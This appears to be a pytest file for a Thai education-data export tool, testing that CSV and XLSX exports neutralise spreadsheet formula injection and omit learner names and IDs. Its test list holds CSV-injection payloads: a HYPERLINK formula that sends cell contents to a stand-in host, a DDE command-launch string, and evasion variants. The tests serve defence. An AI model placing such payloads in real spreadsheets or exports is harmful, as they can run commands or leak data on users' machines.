"""Downloads and `export` files never carry a live formula, a name or ID digits."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import LEARNERS, Files, course_row, courses_sheet, enrolment_row, enrolments_sheet
from hypothesis import given
from hypothesis import strategies as st

from pimpa_data.cli import main
from pimpa_data.export.safe import FORMULA_STARTS, neutralise, to_csv_bytes, to_xlsx_bytes
from pimpa_data.ingest.loading import load_file

HOSTILE_TEXT = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["ทำขนม", "กะปิ 1,500 บาท", "", None, 12, -5, 1.5])
def test_other_values_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


@given(st.text())
def test_no_neutralised_text_starts_a_formula_and_the_original_is_kept(text: str) -> None:
    safe = neutralise(text)
    assert safe in (text, "'" + text)
    if safe == text and text:
        assert text[0] not in FORMULA_STARTS and text.lstrip(" \t\r\n")[:1] not in FORMULA_STARTS


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({"ชื่อหลักสูตร": HOSTILE_TEXT, "ชั่วโมง": range(len(HOSTILE_TEXT))})


def test_xlsx_cells_are_text_never_formulas() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(hostile_frame(), "=bad[sheet]")))
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    written = [cell.value.replace("_x000D_", "\r") for cell in sheet["A"][1:]]  # how XLSX escapes a CR
    assert written == ["'" + text for text in HOSTILE_TEXT]
    assert [cell.value for cell in sheet["B"][1:]] == list(range(len(HOSTILE_TEXT)))  # numbers stay numbers


def test_csv_fields_never_start_a_formula() -> None:
    text = to_csv_bytes(hostile_frame()).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            assert field[:1] not in FORMULA_STARTS


@pytest.fixture
def hostile_centre(con, files: Files, db_path: Path) -> Path:
    courses = courses_sheet(course_row(1, code="PMP-01"))
    # The course name; openpyxl would store "=…" as a formula, so the test uses "@…".
    courses[-1][3] = '@HYPERLINK("http://example.invalid","ดูเพิ่ม")'
    workbook = {"หลักสูตร": courses, "ผู้เรียน": enrolments_sheet(enrolment_row(1, LEARNERS[0], name="นางมาลี ใจดี"))}
    assert load_file(con, files.write("c.xlsx", workbook), who="t").status == "loaded"
    con.close()
    return db_path


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_export_command_writes_neutralised_files_without_names(hostile_centre: Path, tmp_path: Path,
                                                                   suffix: str) -> None:
    for kind in ("courses", "enrolments"):
        out = tmp_path / f"{kind}.{suffix}"
        code = main(["--db", str(hostile_centre), "export", kind, "--fiscal-year", "2567", "--unit", "240409",
                     "--out", str(out)])
        assert code == 0
        rows = _rows(out)
        assert len(rows) == 2, rows
        flat = " ".join(map(str, rows))
        assert "มาลี" not in flat and LEARNERS[0][-4:] not in flat and LEARNERS[0] not in flat
        assert all(str(v)[:1] not in FORMULA_STARTS for row in rows for v in row if v is not None)
    assert "'@HYPERLINK" in " ".join(map(str, _rows(tmp_path / f"courses.{suffix}")))


def _rows(path: Path) -> list[list[object]]:
    if path.suffix == ".csv":
        return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(path).active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_an_unknown_unit_is_a_message_not_an_empty_file(hostile_centre: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "x.csv"
    assert main(["--db", str(hostile_centre), "export", "sar", "--fiscal-year", "2567", "--unit", "999999",
                 "--out", str(out)]) == 1
    assert "999999" in capsys.readouterr().err and not out.exists()


def test_an_excel_download_prints_on_a4_across_with_the_header_on_every_page() -> None:
    rows = pd.DataFrame({"ชื่อ-สกุล": [f"นางทดสอบ {n}" for n in range(200)], "เบอร์โทรศัพท์": ["081-234-5678"] * 200})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(rows, "visits")))["visits"]
    assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")
    assert sheet.print_title_rows == "$1:$1" and sheet.sheet_properties.pageSetUpPr.fitToPage
